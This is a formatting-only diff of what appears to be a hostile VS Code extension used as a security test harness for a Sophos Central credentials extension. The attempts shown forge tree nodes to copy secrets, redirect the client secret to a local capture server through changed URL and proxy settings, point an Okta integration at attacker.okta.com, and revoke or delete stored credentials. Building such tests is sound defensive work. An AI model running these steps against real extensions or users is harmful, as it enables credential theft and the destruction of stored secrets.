@@ -43,32 +43,62 @@ function captureServer() {
     socket.on('data', (chunk) => {
       bodies.push(`CONNECT ${request.url} ${chunk.toString()}`);
       const body = '{"errorCode":"oauth.invalid_client_secret","message":"Unauthorized"}';
-      socket.end(`HTTP/1.1 401 Unauthorized\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\nconnection: close\r\n\r\n${body}`);
+      socket.end(
+        `HTTP/1.1 401 Unauthorized\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\nconnection: close\r\n\r\n${body}`,
+      );
     });
     socket.on('error', () => undefined);
   });
-  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve({ url: `http://127.0.0.1:${server.address().port}`, bodies, close: () => server.close() })));
+  return new Promise((resolve) =>
+    server.listen(0, '127.0.0.1', () =>
+      resolve({ url: `http://127.0.0.1:${server.address().port}`, bodies, close: () => server.close() }),
+    ),
+  );
 }
 
 async function setup() {
   const { clientId, clientSecret } = config();
-  const added = await run('addCredential', { name: 'Victim', clientId, clientSecret, role: 'superAdmin', createdOn: '2026-01-15' });
+  const added = await run('addCredential', {
+    name: 'Victim',
+    clientId,
+    clientSecret,
+    role: 'superAdmin',
+    createdOn: '2026-01-15',
+  });
   const token = await run('createSlsToken', { credential: 'Victim', label: 'Victim token' });
   const integration = await run('addIntegrationCredential', {
-    type: 'oktaApiToken', name: 'Victim Okta', permissions: 'write', integrations: ['Response Action'],
-    values: { url: 'https://acme.okta.com' }, secrets: { apiToken: config().oktaToken }, acknowledge: true,
+    type: 'oktaApiToken',
+    name: 'Victim Okta',
+    permissions: 'write',
+    integrations: ['Response Action'],
+    values: { url: 'https://acme.okta.com' },
+    secrets: { apiToken: config().oktaToken },
+    acknowledge: true,
   });
-  fs.writeFileSync(path.join(dir(), 'setup.json'), JSON.stringify({ credentialId: added.id, tokenId: token.id, integrationId: integration.id }));
+  fs.writeFileSync(
+    path.join(dir(), 'setup.json'),
+    JSON.stringify({ credentialId: added.id, tokenId: token.id, integrationId: integration.id }),
+  );
 }
 
 async function attack(round) {
   const { credentialId, tokenId, integrationId } = JSON.parse(fs.readFileSync(path.join(dir(), 'setup.json'), 'utf8'));
   const results = [];
   // 1. Forged tree nodes: the shape of a node, not one the tree made.
-  await attempt(results, 'copyToken with a forged token node', () => clipboardAfter(() => run('copyToken', { kind: 'token', credentialId, tokenId })));
-  await attempt(results, 'copyIntegrationSecret with a forged field node', () => clipboardAfter(() => run('copyIntegrationSecret', { kind: 'integrationField', credentialId: integrationId, fieldId: 'apiToken' })));
-  await attempt(results, 'copyIntegrationSecret with arguments', () => clipboardAfter(() => run('copyIntegrationSecret', { credential: integrationId, field: 'apiToken' })));
-  await attempt(results, 'copyForConnectorProfile clientSecret', () => clipboardAfter(() => run('copyForConnectorProfile', { credential: 'Victim', copy: 'clientSecret' })));
+  await attempt(results, 'copyToken with a forged token node', () =>
+    clipboardAfter(() => run('copyToken', { kind: 'token', credentialId, tokenId })),
+  );
+  await attempt(results, 'copyIntegrationSecret with a forged field node', () =>
+    clipboardAfter(() =>
+      run('copyIntegrationSecret', { kind: 'integrationField', credentialId: integrationId, fieldId: 'apiToken' }),
+    ),
+  );
+  await attempt(results, 'copyIntegrationSecret with arguments', () =>
+    clipboardAfter(() => run('copyIntegrationSecret', { credential: integrationId, field: 'apiToken' })),
+  );
+  await attempt(results, 'copyForConnectorProfile clientSecret', () =>
+    clipboardAfter(() => run('copyForConnectorProfile', { credential: 'Victim', copy: 'clientSecret' })),
+  );
   // 2. Into a document the attacker reads.
   await attempt(results, 'insertTokenAtCursor into an untitled editor', async () => {
     const document = await vscode.workspace.openTextDocument({ content: '' });
@@ -89,7 +119,9 @@ async function attack(round) {
   });
   // 3. A session without a prompt of ours.
   await attempt(results, 'getSession with a credential scope', async () => {
-    const session = await vscode.authentication.getSession('sophos-central', ['credential:Victim'], { createIfNone: true });
+    const session = await vscode.authentication.getSession('sophos-central', ['credential:Victim'], {
+      createIfNone: true,
+    });
     return `accessToken=${session ? session.accessToken : ''}`;
   });
   // 4. The Client Secret sent to a host the attacker controls, through the user's settings.
@@ -102,7 +134,10 @@ async function attack(round) {
     await new Promise((resolve) => setTimeout(resolve, 500)); // let the change reach every listener
     let outcome;
     try {
-      outcome = await run('testCredential', { credential: 'Victim' }).then((r) => JSON.stringify(r), (e) => `rejected: ${e.message}`);
+      outcome = await run('testCredential', { credential: 'Victim' }).then(
+        (r) => JSON.stringify(r),
+        (e) => `rejected: ${e.message}`,
+      );
     } finally {
       await settings.update('idUrl', before.idUrl, vscode.ConfigurationTarget.Global);
       await settings.update('apiUrl', before.apiUrl, vscode.ConfigurationTarget.Global);
@@ -119,7 +154,10 @@ async function attack(round) {
     await new Promise((resolve) => setTimeout(resolve, 500));
     let outcome;
     try {
-      outcome = await run('testCredential', { credential: 'Victim' }).then((r) => JSON.stringify(r), (e) => `rejected: ${e.message}`);
+      outcome = await run('testCredential', { credential: 'Victim' }).then(
+        (r) => JSON.stringify(r),
+        (e) => `rejected: ${e.message}`,
+      );
     } finally {
       await http.update('proxy', before, vscode.ConfigurationTarget.Global);
       capture.close();
@@ -128,21 +166,37 @@ async function attack(round) {
     return `${outcome} received=${capture.bodies.join(' | ')}`;
   });
   // 6. Changing what the user stored.
-  await attempt(results, 'updateToken expires the token in a minute', () => run('updateToken', { credential: 'Victim', tokenId, expiresAt: new Date(Date.now() + 60_000).toISOString() }));
-  await attempt(results, 'editCredential overwrites the integration URL', () => run('editCredential', { credential: integrationId, values: { url: 'https://attacker.okta.com' } }));
+  await attempt(results, 'updateToken expires the token in a minute', () =>
+    run('updateToken', { credential: 'Victim', tokenId, expiresAt: new Date(Date.now() + 60_000).toISOString() }),
+  );
+  await attempt(results, 'editCredential overwrites the integration URL', () =>
+    run('editCredential', { credential: integrationId, values: { url: 'https://attacker.okta.com' } }),
+  );
   // 7. Destroying what the user stored.
   await attempt(results, 'revokeToken', () => run('revokeToken', { credential: 'Victim', tokenId }));
-  await attempt(results, 'editCredential replaces the secret untested', () => run('editCredential', { credential: 'Victim', clientSecret: 'hostile-secret', test: false }));
+  await attempt(results, 'editCredential replaces the secret untested', () =>
+    run('editCredential', { credential: 'Victim', clientSecret: 'hostile-secret', test: false }),
+  );
   await attempt(results, 'deleteCredential', () => run('deleteCredential', { credential: 'Victim' }));
-  await attempt(results, 'deleteCredential of the integration credential', () => run('deleteCredential', { credential: integrationId }));
+  await attempt(results, 'deleteCredential of the integration credential', () =>
+    run('deleteCredential', { credential: integrationId }),
+  );
   fs.writeFileSync(path.join(dir(), `attack-${round}.json`), JSON.stringify(results, null, 2));
 }
 
 exports.activate = (context) => {
   let round = 0;
   context.subscriptions.push(
-    vscode.commands.registerCommand('hostile.setup', () => setup().catch((error) => fs.writeFileSync(path.join(dir(), 'setup.json'), JSON.stringify({ error: String(error.message) })))),
-    vscode.commands.registerCommand('hostile.attack', () => attack(++round).catch((error) => fs.writeFileSync(path.join(dir(), `attack-${round}.json`), JSON.stringify({ error: String(error.stack) })))),
+    vscode.commands.registerCommand('hostile.setup', () =>
+      setup().catch((error) =>
+        fs.writeFileSync(path.join(dir(), 'setup.json'), JSON.stringify({ error: String(error.message) })),
+      ),
+    ),
+    vscode.commands.registerCommand('hostile.attack', () =>
+      attack(++round).catch((error) =>
+        fs.writeFileSync(path.join(dir(), `attack-${round}.json`), JSON.stringify({ error: String(error.stack) })),
+      ),
+    ),
   );
 };
 exports.deactivate = () => {};
